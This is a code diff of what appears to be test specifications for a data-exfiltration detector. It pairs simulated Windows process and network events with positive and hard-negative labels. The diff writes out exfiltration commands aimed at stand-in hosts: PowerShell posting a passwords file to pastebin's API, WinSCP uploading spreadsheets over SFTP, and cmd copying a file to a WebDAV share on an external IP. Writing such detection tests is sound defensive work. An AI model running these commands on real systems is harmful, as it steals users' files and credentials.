@@ -101,7 +101,7 @@ CHANNEL = [
          "Invoke-RestMethod -Method Post -Body <hashtable form> to pastebin's API (Atomic Red Team's text-storage "
          "exfiltration), the content read from a file first.",
          "v-10", (0.31,), (
-             _ps("ps", r'powershell.exe -Command "$c = Get-Content {docs}\passwords.txt -Raw; $p = @{{api_dev_key=''k1''; '
+             _ps("ps", r"""powershell.exe -Command "$c = Get-Content {docs}\passwords.txt -Raw; $p = @{{api_dev_key='k1'; """
                        r"api_option='paste'; api_paste_code=$c}}; Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php "
                        r'-Method Post -Body $p"'),
              *_out("ps", "pastebin.com"), Wait(4000))),
@@ -137,7 +137,7 @@ CHANNEL = [
     Spec("channel-winscp-dotnet", True, "T1048.002",
          "WinSCP's .NET assembly driven from PowerShell (no WinSCP process): SessionOptions Sftp, Session.PutFiles.",
          "v-15", (0.41,), (
-             _ps("ps", r'powershell.exe -NoProfile -Command "Add-Type -Path ''C:\Program Files (x86)\WinSCP\WinSCPnet.dll''; '
+             _ps("ps", r"""powershell.exe -NoProfile -Command "Add-Type -Path 'C:\Program Files (x86)\WinSCP\WinSCPnet.dll'; """
                        r"$o = New-Object WinSCP.SessionOptions -Property @{{Protocol = [WinSCP.Protocol]::Sftp; "
                        r"HostName = 'ssh.far-archive.example.net'; UserName = 'u'; SshHostKeyFingerprint = 'ssh-ed25519 255 x'}}; "
                        r"$s = New-Object WinSCP.Session; $s.Open($o); $s.PutFiles('{docs}\*.xlsx', '/in/').Check()" + '"'),
@@ -172,10 +172,10 @@ CHANNEL = [
     Spec("channel-webdav-copy-ip-port", True, "T1048.002",
          "cmd /c copy to \\\\<ip>@SSL@8443\\drop\\: WebDAV over SSL on a non-standard port, by address.",
          "v-19", (0.49,), (
-             Run("cmd", CMD, r'cmd.exe /c copy /y {docs}\vendors.xlsx \\203.0.113.140@SSL@8443\drop\v.xlsx'),
+             Run("cmd", CMD, r'cmd.exe /c copy /y {docs}\vendors.xlsx \\203.0.113.201@SSL@8443\drop\v.xlsx'),
              Run("wc", WEBCLIENT_SVC, r"C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient",
                  parent="services", gap=200),
-             Connect("wc", "203.0.113.140", 8443), Wait(4000))),
+             Connect("wc", "203.0.113.201", 8443), Wait(4000))),
     # hard negatives
     Spec("channel-neg-bits-download", False, "none",
          "Start-BitsTransfer downloading (no -TransferType Upload).",
@@ -259,6 +259,14 @@ DEST = [
                  r'"C:\Program Files (x86)\WinSCP\WinSCP.com" /command "open sftp://{user}@10.10.50.20/ -hostkey=*" '
                  r'"put {docs}\handover.zip /home/{user}/" "exit"', parent="cmd", gap=3000),
              Connect("ws", "10.10.50.20", 22), Wait(3000))),
+    Spec("dest-neg-curl-dmz-hierarchy", False, "none",
+         "curl -T to the company's own file-exchange server in its public DMZ (198.51.100.230): public address, "
+         "but a network of the console's network hierarchy, so internal by default.",
+         "v-37", (0.59,), (
+             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
+             Run("curl", CURL, r"curl.exe -sS -T {docs}\handover.zip https://198.51.100.230/exchange/handover.zip",
+                 parent="cmd", gap=3000),
+             Connect("curl", "198.51.100.230", 443), Wait(3000))),
     Spec("dest-neg-webdav-internal", False, "none",
          "copy to the intranet's WebDAV over SSL by address (\\\\10.10.50.80@SSL\\DavWWWRoot\\...).",
          "v-31", (0.60,), (
